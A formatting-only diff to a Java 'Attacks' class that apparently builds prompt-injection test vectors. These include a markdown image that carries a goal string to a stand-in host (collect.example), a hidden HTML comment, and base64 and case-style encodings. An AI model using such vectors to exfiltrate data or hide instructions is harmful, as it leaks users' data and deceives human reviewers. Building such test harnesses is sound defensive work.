@@ -31,10 +31,10 @@ final class Attacks {
           new Attack(
               "markdown",
               goal ->
-                  "![%s](https://collect.example/?q=%s)"
-                      .formatted(goal, goal.replace(' ', '+')),
+                  "![%s](https://collect.example/?q=%s)".formatted(goal, goal.replace(' ', '+')),
               Place.VECTORS),
-          new Attack("html", goal -> "<div hidden><!-- %s --></div>".formatted(goal), Place.VECTORS),
+          new Attack(
+              "html", goal -> "<div hidden><!-- %s --></div>".formatted(goal), Place.VECTORS),
           new Attack("snake", Attacks::snake, Place.VECTORS),
           new Attack("camel", Attacks::camel, Place.VECTORS),
           new Attack("base64", Attacks::base64, Place.VECTORS),
